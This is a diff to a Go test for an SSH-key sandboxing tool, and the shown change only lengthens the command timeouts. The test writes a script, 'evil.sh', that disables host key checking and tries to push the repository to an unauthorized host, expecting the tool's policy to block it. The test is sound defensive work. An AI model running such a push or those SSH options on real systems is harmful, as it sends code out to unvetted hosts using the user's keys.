@@ -112,7 +112,7 @@ func TestGitWithTheUsersKeys(t *testing.T) {
 		u.repository(dir)
 		inside := func(script string) (string, int) {
 			u.t.Helper()
-			return u.run(dir, []string{"SSH_AUTH_SOCK=" + socket}, bin, "exec", "--quiet", "--timeout", "150s", "--", script)
+			return u.run(dir, []string{"SSH_AUTH_SOCK=" + socket}, bin, "exec", "--quiet", "--timeout", "8m", "--", script)
 		}
 		policy := filepath.Join(u.home, ".config/pillion/policy.toml")
 		u.write(policy, "[ssh]\nkeys = [\"~/.ssh/id.pub\"]\n")
@@ -161,7 +161,7 @@ func (u *user) pushes(dir, policy, key string, inside func(string) (string, int)
 	// An ssh that does not care whom it speaks to.
 	u.write(filepath.Join(dir, "evil.sh"), "GIT_SSH_COMMAND=\"$GIT_SSH_COMMAND -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null\" exec git \"$@\"\n")
 	evil := "sh evil.sh push -q " + to(strange) + " HEAD:refs/heads/evil"
-	out, code := u.run(dir, []string{"SSH_AUTH_SOCK=" + filepath.Join(u.home, "agent.sock")}, bin, "exec", "--timeout", "150s", "--", evil)
+	out, code := u.run(dir, []string{"SSH_AUTH_SOCK=" + filepath.Join(u.home, "agent.sock")}, bin, "exec", "--timeout", "8m", "--", evil)
 	if code == 0 || !strings.Contains(out, "is not granted") {
 		u.t.Errorf("pushed to another host: %s", out)
 	}
